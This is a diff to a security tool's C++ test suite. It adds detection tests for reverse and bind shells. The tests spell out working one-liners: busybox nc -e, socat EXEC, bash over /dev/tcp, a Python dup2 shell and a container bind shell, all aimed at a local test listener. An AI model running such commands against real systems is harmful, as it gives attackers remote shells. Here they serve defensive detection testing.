@@ -41,6 +41,7 @@ constexpr char kPoolPort[] = "Connection to a mining pool port";
 constexpr char kWebShell[] = "Shell spawned by a web server";
 constexpr char kShellConnect[] = "Shell opened a network connection";
 constexpr char kNetcat[] = "Netcat or socat program execution";
+constexpr char kReverse[] = "Reverse shell";
 constexpr char kMount[] = "Mount inside a container";
 constexpr char kSetns[] = "Namespace change inside a container";
 constexpr char kProcSys[] = "Kernel parameter write from a container";
@@ -259,21 +260,56 @@ TEST_F(DefaultRulesBehaviour, BashDevTcpConnection) {
 }
 
 TEST_F(DefaultRulesBehaviour, NetcatExecAndSocatExec) {
-  // busybox nc -e really connects and hands the socket to a shell, which runs
-  // the listener's commands. socat is not installed: a stand-in named socat
-  // is executed with socat's EXEC address syntax.
+  // busybox nc -e really connects and hands the socket to a shell (a reverse
+  // shell), which runs the listener's commands. socat is not installed: a
+  // stand-in named socat is executed with socat's EXEC address syntax.
   Listener l;
   ASSERT_TRUE(l.ok());
   std::string got;
   std::thread server([&] { got = l.ServeOne("echo vigil-shell-$((6*7))\nexit\n"); });
   auto alerts = Behave("busybox nc 127.0.0.1 " + std::to_string(l.port()) + " -e /bin/sh && cp /bin/true " +
                            dir_ / "socat" + " && " + dir_ / "socat" + " TCP:127.0.0.1:1 EXEC:/bin/sh,pty,stderr",
-                       {kNetcat});
+                       {kNetcat, kReverse});
   server.join();
   EXPECT_NE(got.find("vigil-shell-42"), std::string::npos) << got;
   ExpectAlert(alerts, kNetcat, "busybox");
   ExpectAlert(alerts, kNetcat, "socat");
-  ExpectOnly(alerts, {kNetcat});
+  ExpectAlert(alerts, kReverse, "sh");
+  ExpectOnly(alerts, {kNetcat, kReverse});
+}
+
+TEST_F(DefaultRulesBehaviour, ReverseShellBashDevTcp) {
+  // The classic one-liner: an interactive bash whose stdin, stdout and stderr
+  // are a TCP connection to the attacker's listener.
+  Listener l;
+  ASSERT_TRUE(l.ok());
+  std::string got;
+  std::thread server([&] { got = l.ServeOne("echo vigil-shell-$((6*7))\nexit\n"); });
+  auto alerts = Behave("exec bash -c 'bash --norc -i >& /dev/tcp/127.0.0.1/" + std::to_string(l.port()) +
+                           " 0>&1'",
+                       {kShellConnect, kReverse});
+  server.join();
+  EXPECT_NE(got.find("vigil-shell-42"), std::string::npos) << got;
+  ExpectAlert(alerts, kShellConnect, "bash");
+  ExpectAlert(alerts, kReverse, "bash");
+  ExpectOnly(alerts, {kShellConnect, kReverse});
+}
+
+TEST_F(DefaultRulesBehaviour, ReverseShellPythonDup2) {
+  // No shell network code at all: python connects, dup2s the socket onto
+  // 0, 1, 2 and execs a shell.
+  Listener l;
+  ASSERT_TRUE(l.ok());
+  std::string got;
+  std::thread server([&] { got = l.ServeOne("echo vigil-shell-$((6*7))\nexit\n"); });
+  auto alerts = Behave("exec /usr/bin/python3 -c 'import os, socket; s = socket.create_connection((\"127.0.0.1\", " +
+                           std::to_string(l.port()) +
+                           ")); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv(\"/bin/sh\", [\"sh\", \"-i\"])'",
+                       {kReverse});
+  server.join();
+  EXPECT_NE(got.find("vigil-shell-42"), std::string::npos) << got;
+  ExpectAlert(alerts, kReverse, "sh");
+  ExpectOnly(alerts, {kReverse});
 }
 
 // ---- privilege escalation -----------------------------------------------------------
@@ -576,6 +612,19 @@ TEST_F(DefaultRulesContainer, PackageManagerInRunningContainer) {
                                   "/sbin/apk add curl 2>/dev/null; true", {kPackage});
   ExpectAlert(alerts, kPackage, "apk");
   ExpectOnly(alerts, {kPackage});
+}
+
+TEST_F(DefaultRulesContainer, BindShellInsideAContainer) {
+  // busybox nc listens inside the container and gives the connection a
+  // shell; a client in the container drives it. busybox sh runs its applets
+  // (nc here) in a forked child without exec, so there is no exec of nc for
+  // the netcat rule to see: the shell's socket stdin is what gives it away.
+  auto alerts = BehaveInContainer(
+      "--network none",
+      "nc -l -p 4444 -e /bin/sh & sleep 0.5; echo 'echo bound-$((6*7)); exit' | nc 127.0.0.1 4444 | grep -q bound-42",
+      {kReverse});
+  ExpectAlert(alerts, kReverse, "sh");
+  ExpectOnly(alerts, {kReverse});
 }
 
 TEST_F(DefaultRulesContainer, IntrusionStepsInsideAContainer) {
